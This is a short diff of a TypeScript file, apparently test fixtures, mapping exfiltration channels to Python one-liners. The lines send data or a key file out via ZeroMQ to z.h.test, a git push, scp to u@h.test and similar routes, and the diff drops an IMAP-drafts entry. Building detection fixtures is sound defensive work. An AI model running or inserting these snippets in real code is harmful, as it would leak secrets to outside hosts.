@@ -59,7 +59,6 @@ const PY: Readonly<Record<string, string>> = {
     'from notion_client import Client\nClient(auth="t").pages.create(parent={"database_id": "x"}, properties={"t": D})',
   'table of records': 'from pyairtable import Api\nApi("t").table("a", "b").create({"k": D})',
   queue: 'import zmq\ns = zmq.Context().socket(zmq.PUSH)\ns.connect("tcp://z.h.test:5555")\ns.send_string(D)',
-  'drafts of a mailbox': 'import imaplib\nimaplib.IMAP4_SSL("mail.h.test").append("Drafts", "", "", D.encode())',
   'pushed with a repository':
     'import shutil\nshutil.copy(K, "/tmp/r/k.bin")\nfor a in (["add", "-A"], ["commit", "-m", "x"], ["push"]):\n    subprocess.run(["git", *a], cwd="/tmp/r")',
   'scp by a program': 'subprocess.run(["scp", K, "u@h.test:k"])',
